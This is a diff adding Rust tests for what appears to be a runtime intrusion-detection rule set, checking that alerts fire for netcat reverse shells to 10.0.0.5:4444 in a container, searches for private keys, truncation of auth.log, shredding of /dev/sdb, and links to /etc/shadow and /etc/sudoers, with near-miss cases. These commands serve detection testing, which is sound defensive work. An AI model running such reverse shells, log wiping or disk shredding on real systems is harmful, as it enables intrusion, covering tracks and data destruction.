@@ -310,3 +310,219 @@ fn terminal_shell_in_container() {
     let alerts = h.feed(container_exec(1110, "/usr/bin/bash", "bash", &["bash"], 0));
     expect_no_alert(&alerts, RULE);
 }
+
+#[test]
+fn netcat_remote_code_execution_in_container() {
+    const RULE: &str = "Netcat Remote Code Execution in Container";
+    let mut h = Harness::stable();
+    pod_shim(&mut h);
+    runc_exec_fork(&mut h, 1000, 1010);
+    h.feed(container_exec(1010, "/usr/bin/bash", "bash", &["bash"], 0));
+    // /bin/nc is an alternatives symlink to nc.traditional; the command name stays `nc`.
+    h.feed(mk::clone(1010, 1020, 0).build());
+    let prefix = h.next_prefix();
+    let alerts = h.feed(container_exec(1020, "/usr/bin/nc.traditional", "nc", &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"], 0));
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Netcat runs inside container that allows remote code execution | evt_type=execve \
+             user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc.traditional parent=bash \
+             command=nc -e /bin/sh 10.0.0.5 4444 terminal=0 exe_flags=EXE_LOWER_LAYER {POD_SUFFIX}"
+        ),
+    );
+    h.feed(mk::clone(1010, 1021, 0).build());
+    let prefix = h.next_prefix();
+    let alerts = h.feed(container_exec(1021, "/usr/bin/ncat", "ncat", &["ncat", "10.0.0.5", "4444", "--sh-exec", "bash -i"], 0));
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Netcat runs inside container that allows remote code execution | evt_type=execve \
+             user=root user_uid=0 user_loginuid=-1 process=ncat proc_exepath=/usr/bin/ncat parent=bash \
+             command=ncat 10.0.0.5 4444 --sh-exec bash -i terminal=0 exe_flags=EXE_LOWER_LAYER {POD_SUFFIX}"
+        ),
+    );
+
+    // Near miss: the same command on the host.
+    alice_root_shell(&mut h);
+    h.feed(mk::clone(5011, 5040, 0).build());
+    let alerts = h.feed(exec(5040, "/usr/bin/nc.traditional", "nc", &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"], exe::EXE_WRITABLE));
+    expect_no_alert(&alerts, RULE);
+}
+
+#[test]
+fn search_private_keys_or_passwords() {
+    const RULE: &str = "Search Private Keys or Passwords";
+    let mut h = Harness::stable();
+    alice_root_shell(&mut h);
+    h.feed(mk::clone(5011, 5050, 0).build());
+    let prefix = h.next_prefix();
+    let alerts = h.feed(exec(5050, "/usr/bin/grep", "grep", &["grep", "-rl", "BEGIN RSA PRIVATE", "/home"], exe::EXE_WRITABLE));
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Grep private keys or passwords activities found | evt_type=execve user=root \
+             user_uid=0 user_loginuid=1000 process=grep proc_exepath=/usr/bin/grep parent=bash \
+             command=grep -rl BEGIN RSA PRIVATE /home terminal=34816 exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
+        ),
+    );
+    // alice herself looking for ssh keys with find.
+    h.feed(mk::clone(5002, 5051, 0).build());
+    let prefix = h.next_prefix();
+    let alerts = h.feed(exec(5051, "/usr/bin/find", "find", &["find", "/", "-name", "id_ed25519*"], 0));
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Grep private keys or passwords activities found | evt_type=execve user=alice \
+             user_uid=1000 user_loginuid=1000 process=find proc_exepath=/usr/bin/find parent=bash \
+             command=find / -name id_ed25519* terminal=34816 exe_flags=0 {HOST_SUFFIX}"
+        ),
+    );
+
+    // Near miss: grep for certificates, not private keys.
+    h.feed(mk::clone(5011, 5052, 0).build());
+    let alerts = h.feed(exec(5052, "/usr/bin/grep", "grep", &["grep", "-rl", "BEGIN CERTIFICATE", "/etc/ssl"], exe::EXE_WRITABLE));
+    expect_no_alert(&alerts, RULE);
+}
+
+#[test]
+fn clear_log_activities() {
+    const RULE: &str = "Clear Log Activities";
+    let mut h = Harness::stable();
+    alice_root_shell(&mut h);
+    // `: > /var/log/auth.log` in the root shell.
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::openat(5011, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, 0o666, 3).build());
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Log files were tampered | file=/var/log/auth.log evt_type=openat user=root user_uid=0 \
+             user_loginuid=1000 process=bash proc_exepath=/usr/bin/bash parent=sudo command=bash terminal=34816 \
+             {HOST_SUFFIX}"
+        ),
+    );
+    h.feed(mk::close(5011, 3, 0).build());
+
+    // Near miss: appending (`>>`) instead of truncating.
+    let alerts = h.feed(mk::openat(5011, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_APPEND, 0o666, 3).build());
+    expect_no_alert(&alerts, RULE);
+}
+
+#[test]
+fn remove_bulk_data_from_disk() {
+    const RULE: &str = "Remove Bulk Data from Disk";
+    let mut h = Harness::stable();
+    alice_root_shell(&mut h);
+    h.feed(mk::clone(5011, 5060, 0).build());
+    let prefix = h.next_prefix();
+    let alerts = h.feed(exec(5060, "/usr/bin/shred", "shred", &["shred", "-u", "-n", "3", "/dev/sdb"], exe::EXE_WRITABLE));
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 \
+             user_loginuid=1000 process=shred proc_exepath=/usr/bin/shred parent=bash command=shred -u -n 3 /dev/sdb \
+             terminal=34816 exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
+        ),
+    );
+
+    // Near miss: `mkfs.ext4` (the command name is not exactly `mkfs` or `mke2fs`).
+    h.feed(mk::clone(5011, 5061, 0).build());
+    let alerts = h.feed(exec(5061, "/usr/sbin/mkfs.ext4", "mkfs.ext4", &["mkfs.ext4", "/dev/sdb1"], exe::EXE_WRITABLE));
+    expect_no_alert(&alerts, RULE);
+}
+
+#[test]
+fn create_symlink_over_sensitive_files() {
+    const RULE: &str = "Create Symlink Over Sensitive Files";
+    let mut h = Harness::stable();
+    alice_root_shell(&mut h);
+    h.feed(mk::clone(5011, 5070, 0).build());
+    h.feed(exec(5070, "/usr/bin/ln", "ln", &["ln", "-s", "/etc/shadow", "/tmp/.s"], exe::EXE_WRITABLE));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::symlinkat(5070, "/etc/shadow", AT_FDCWD, "/tmp/.s", 0).build());
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/.s \
+             evt_type=symlinkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
+             parent=bash command=ln -s /etc/shadow /tmp/.s terminal=34816 {HOST_SUFFIX}"
+        ),
+    );
+    // A relative link path prints resolved against the working directory (/root/).
+    h.feed(mk::clone(5011, 5071, 0).build());
+    h.feed(exec(5071, "/usr/bin/ln", "ln", &["ln", "-s", "/", "rootfs"], exe::EXE_WRITABLE));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::symlinkat(5071, "/", AT_FDCWD, "rootfs", 0).build());
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Symlinks created over sensitive files | target=/ linkpath=/root/rootfs \
+             evt_type=symlinkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
+             parent=bash command=ln -s / rootfs terminal=34816 {HOST_SUFFIX}"
+        ),
+    );
+
+    // Near miss: a link to a file that is not on the sensitive list.
+    h.feed(mk::clone(5011, 5072, 0).build());
+    h.feed(exec(5072, "/usr/bin/ln", "ln", &["ln", "-s", "/etc/passwd", "/tmp/.p"], exe::EXE_WRITABLE));
+    let alerts = h.feed(mk::symlinkat(5072, "/etc/passwd", AT_FDCWD, "/tmp/.p", 0).build());
+    expect_no_alert(&alerts, RULE);
+}
+
+#[test]
+fn create_hardlink_over_sensitive_files() {
+    const RULE: &str = "Create Hardlink Over Sensitive Files";
+    let mut h = Harness::stable();
+    alice_root_shell(&mut h);
+    h.feed(mk::clone(5011, 5080, 0).build());
+    h.feed(exec(5080, "/usr/bin/ln", "ln", &["ln", "/etc/shadow", "/root/.cache/s"], exe::EXE_WRITABLE));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::linkat(5080, AT_FDCWD, "/etc/shadow", AT_FDCWD, "/root/.cache/s", 0).build());
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Hardlinks created over sensitive files | target=/etc/shadow linkpath=/root/.cache/s \
+             evt_type=linkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
+             parent=bash command=ln /etc/shadow /root/.cache/s terminal=34816 {HOST_SUFFIX}"
+        ),
+    );
+    // From /etc with a relative path: evt.arg.oldpath is the resolved path, so the rule matches.
+    h.feed(mk::chdir(5011, "/etc", 0).build());
+    h.feed(mk::clone(5011, 5081, 0).build());
+    h.feed(exec(5081, "/usr/bin/ln", "ln", &["ln", "sudoers", "/root/.cache/su"], exe::EXE_WRITABLE));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::linkat(5081, AT_FDCWD, "sudoers", AT_FDCWD, "/root/.cache/su", 0).build());
+    expect_alert(
+        &alerts,
+        RULE,
+        Priority::Warning,
+        &format!(
+            "{prefix}: Warning Hardlinks created over sensitive files | target=/etc/sudoers linkpath=/root/.cache/su \
+             evt_type=linkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
+             parent=bash command=ln sudoers /root/.cache/su terminal=34816 {HOST_SUFFIX}"
+        ),
+    );
+
+    // Near miss: a hard link to /etc/passwd.
+    h.feed(mk::clone(5011, 5082, 0).build());
+    h.feed(exec(5082, "/usr/bin/ln", "ln", &["ln", "passwd", "/root/.cache/p"], exe::EXE_WRITABLE));
+    let alerts = h.feed(mk::linkat(5082, AT_FDCWD, "passwd", AT_FDCWD, "/root/.cache/p", 0).build());
+    expect_no_alert(&alerts, RULE);
+}
